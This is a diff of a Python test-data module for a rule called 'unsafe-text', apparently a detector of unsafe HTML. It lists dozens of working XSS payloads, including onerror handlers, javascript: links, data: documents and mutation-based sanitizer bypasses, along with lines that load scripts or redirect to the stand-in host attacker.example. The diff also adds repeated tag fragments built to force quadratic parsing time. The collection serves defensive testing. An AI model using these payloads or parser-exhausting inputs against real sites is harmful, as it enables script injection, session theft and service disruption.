@@ -1,7 +1,7 @@
-"""Texts for and against the rule of `unsafe-text`, by what makes them run or not.
+"""Texts that the rule `unsafe-text` refuses or accepts, named after what makes them run or not.
 
-The larger collection is brs-kb's (MIT), a package of the tests. Here stands what it has little or nothing of: ways that
-need a page to insert them, ways around parsers and sanitizers, and what looks like a tag and is none.
+The larger collection is brs-kb's (MIT), one of the tests' packages. This one adds what brs-kb has little or nothing of:
+ways that need a page to insert them, ways around parsers and sanitizers, and texts that only look like tags.
 """
 
 import importlib
@@ -10,39 +10,39 @@ import warnings
 from functools import cache
 from typing import Any
 
-# Each of these runs its script in a Chromium of 2026 as it stands: what shows that a test of the others would notice.
+# Each of these runs its script in a Chromium of 2026, which proves that the browser tests can detect a running script.
 RUNNING = {
     "a handler": "<img src=x onerror=alert(1)>",
     "a handler without spaces": "<svg/onload=alert(1)>",
     "a handler in upper case": "<IMG SRC=x OnErRoR=alert(1)>",
-    "a handler after what is none": '<img """ onerror=alert(1)>',
+    "a handler after stray quotes": '<img """ onerror=alert(1)>',
     "a handler after an equals sign": "<img src=x = onerror=alert(1)>",
     "a handler of an unknown element": "<anything tabindex=0 onfocus=alert(1)>",
-    "a handler whose code is escaped": "<img src=x onerror='&#97;lert(1)'>",
+    "a handler with escaped code": "<img src=x onerror='&#97;lert(1)'>",
     "a handler in a select": "<select><img src=x onerror=alert(1)></select>",
-    "a handler behind a table": "<table><tr><img src=x onerror=alert(1)>",
+    "a handler moved out of a table": "<table><tr><img src=x onerror=alert(1)>",
     "a handler in foreign content": "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
     "a handler in a foreign object": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
     "a handler of an animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
-    "a handler behind a comment": "<!--> <img src=x onerror=alert(1)> -->",
-    "a handler behind a bogus comment": "</ a><img src=x onerror=alert(1)>",
-    "a handler behind a processing instruction": "<? > <img src=x onerror=alert(1)> ?>",
-    "a handler behind a title": "<title><b title='</title><img src=x onerror=alert(1)>'>",
-    "a handler behind a style in svg": "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "a handler behind a CDATA that is none": "<![CDATA[>]]><img src=x onerror=alert(1)>",
-    "a tag that the page ends": "<img src=x onerror=alert(1) ",
-    "an address that the page ends": "<a href=javascript:alert(1) x",
+    "a handler after a comment": "<!--> <img src=x onerror=alert(1)> -->",
+    "a handler after a bogus comment": "</ a><img src=x onerror=alert(1)>",
+    "a handler after a processing instruction": "<? > <img src=x onerror=alert(1)> ?>",
+    "a handler after a title": "<title><b title='</title><img src=x onerror=alert(1)>'>",
+    "a handler in a style in svg": "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "a handler after a bogus CDATA section": "<![CDATA[>]]><img src=x onerror=alert(1)>",
+    "a tag that the page closes": "<img src=x onerror=alert(1) ",
+    "a URL that the page ends": "<a href=javascript:alert(1) x",
     "a link": "<a href=javascript:alert(1)>x</a>",
     "a link with a tab": "<a href='java\tscript:alert(1)'>x</a>",
-    "a link with a line's end": '<a href="javascript\n:alert(1)">x</a>',
+    "a link with a line break": '<a href="javascript\n:alert(1)">x</a>',
     "a link with a named tab": "<a href='java&Tab;script&colon;alert(1)'>x</a>",
-    "a link with a named line's end": "<a href=java&NewLine;script:alert(1)>x</a>",
-    "a link behind control characters": "<a href='&#1; &#31;javascript:alert(1)'>x</a>",
-    "a link in decimals": "<a href=&#106&#97&#118;ascript:alert(1)>x</a>",
-    "a link in padded hexadecimals": "<a href='&#x0000006a;&#X61;vascript:alert(1)'>x</a>",
+    "a link with a named line break": "<a href=java&NewLine;script:alert(1)>x</a>",
+    "a link after control characters": "<a href='&#1; &#31;javascript:alert(1)'>x</a>",
+    "a link in decimal references": "<a href=&#106&#97&#118;ascript:alert(1)>x</a>",
+    "a link in padded hexadecimal references": "<a href='&#x0000006a;&#X61;vascript:alert(1)'>x</a>",
     "a link in upper case": "<a href=JaVaScRiPt:alert(1)>x</a>",
     "a link in svg": "<svg><a href=javascript:alert(1)><text y=20>x</text></a></svg>",
-    "an older link in svg": "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
+    "an xlink in svg": "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
     "an area": "<img usemap=#m src=x><map name=m><area href=javascript:alert(1) shape=default></map>",
     "a form": "<form action=javascript:alert(1)><button>x</button></form>",
     "a button": "<form><button formaction=javascript:alert(1)>x</button></form>",
@@ -50,8 +50,8 @@ RUNNING = {
     "a frame": "<iframe src=javascript:alert(1)></iframe>",
     "a document in an attribute": "<iframe srcdoc='<img src=x onerror=alert(1)>'></iframe>",
     "an escaped document in an attribute": "<iframe srcdoc='&lt;script>alert(1)&lt;/script>'></iframe>",
-    "a document in an address": "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
-    "an escaped document in an address": "<iframe src='d&#97;ta:text/htm&#108;,&lt;img onerror=alert(1)>'></iframe>",
+    "a document in a URL": "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
+    "an escaped document in a URL": "<iframe src='d&#97;ta:text/htm&#108;,&lt;img onerror=alert(1)>'></iframe>",
     "a picture that is a document": (
         "<iframe src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>\">"
     ),
@@ -60,42 +60,64 @@ RUNNING = {
     "an animated link": (
         "<svg><a><animate attributeName=href values=javascript:alert(1) dur=9s /><text y=20>x</text></a></svg>"
     ),
-    "a link that is set": "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>x</text></a></svg>",
-    "a sanitizer's victim, noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "a sanitizer's victim, math": (
+    "a link by a set element": "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>x</text></a></svg>",
+    "past a sanitizer, noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "past a sanitizer, math": (
         "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>"
     ),
-    "a sanitizer's victim, svg": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
+    "past a sanitizer, svg": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
 }
-# These run nothing where they are inserted whole; but they are one step from it.
+# These run nothing when inserted unchanged, but they are one step away from it.
 REFUSED = {
     "a script": "<script>alert(1)</script>",
     "a script from elsewhere": "<script src=//attacker.example/x.js></script>",
     "a script in svg": "<svg><script>alert(1)</script></svg>",
     "a script in a template": "<template><script>alert(1)</script></template>",
     "a script that does not end": "some text <script",
-    "a tag in a CDATA that is none": "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "a tag in a bogus CDATA section": "<![CDATA[<img src=x onerror=alert(1)>]]>",
     "an attribute that does not end": "<img src=x onerror='alert(1)",
-    "an address that does not end": '<a href="javascript:alert(1)',
+    "a URL that does not end": '<a href="javascript:alert(1)',
     "a refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
     "an escaped refresh": "<meta content='0;url=//attacker.example' http-equiv='&#82;efresh'>",
     "a base": "<base href=//attacker.example/>",
     "a base that is a script": "<base href='javascript:/a/-alert(1)///////'>",
     "a body": "<body onload=alert(1)>",
     "another script language": "<a href='vbscript:msgbox(1)'>x</a>",
-    "a picture's address": "<img src=javascript:alert(1)>",
+    "the URL of an image": "<img src=javascript:alert(1)>",
     "a second value of an animation": "<svg><animate attributeName=href values='#;javascript:alert(1)'></svg>",
-    "a handler to come": "<b onsomethingnew=alert(1)>",
+    "an unknown handler": "<b onsomethingnew=alert(1)>",
     "a handler in a comment": "<!-- <img src=x onerror=alert(1)> -->",
     "a handler in an attribute": "<p title='<img src=x onerror=alert(1)>'>",
     "a handler in a text area": "<textarea><img src=x onerror=alert(1)></textarea>",
-    "escaped in a style, a sanitizer's victim": "<math><style>&lt;img src=x onerror=alert(1)&gt;</style></math>",
-    "escaped in an attribute, a sanitizer's victim": (
+    "past a sanitizer, escaped in a style": "<math><style>&lt;img src=x onerror=alert(1)&gt;</style></math>",
+    "past a sanitizer, escaped in an attribute": (
         "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
     ),
-    "a document of a type that is written otherwise": "<iframe src='data:TEXT/ht\nml,x'>",
+    "a document with an obfuscated type": "<iframe src='data:TEXT/ht\nml,x'>",
 }
 UNSAFE = RUNNING | REFUSED
+
+# Parts that make tags within tags when they are repeated: a reader that starts over at each tag needs quadratic time.
+TANGLED = {
+    "names": "<a",
+    "attributes": "<a ",
+    "values": "<a x=",
+    "slashes": "<a/x=",
+    "quotes": "<a b='",
+    "other quotes": "<a x='\"",
+    "lists": "<a values=;",
+    "references": "<a href=&#0",
+    "quoted references": '<a href="&Tab;',
+    "spaces": "<a" + " " * 50 + "=",
+    "escaped": "<svg>&lt;a href=",
+}
+
+
+def tangled(name: str, size: int = 262_144) -> str:
+    """Return a text of at least this many characters, by default as many as a config may have."""
+    # The last word is one that makes the service read all tags, instead of searching for such words only.
+    return TANGLED[name] * (size // len(TANGLED[name]) + 1) + "= srcdoc"
+
 
 HARMLESS = [
     "",
@@ -161,7 +183,7 @@ HARMLESS = [
     "<scripts src=x>",
     "<script-runner name=x>",
     "<prescript>",
-    "＜script＞ｏｎｅｒｒｏｒ=1",  # noqa: RUF001 - the wide letters are the point
+    "＜script＞ｏｎｅｒｒｏｒ=1",  # noqa: RUF001 - the fullwidth letters are intentional
     "😀 <😀 onerror=1>",
     "é — 売上 🎉 </b>",
     "\t<b\n>",
@@ -173,7 +195,7 @@ HARMLESS = [
 
 @cache
 def collection() -> list[str]:
-    """The texts of brs-kb's payloads, a third of which have no tag at all."""
+    """Return the texts of brs-kb's payloads, a third of which have no tag at all."""
     found: set[str] = set()
     with warnings.catch_warnings(action="ignore", category=DeprecationWarning):
         payloads = importlib.import_module("brs_kb.payloads")
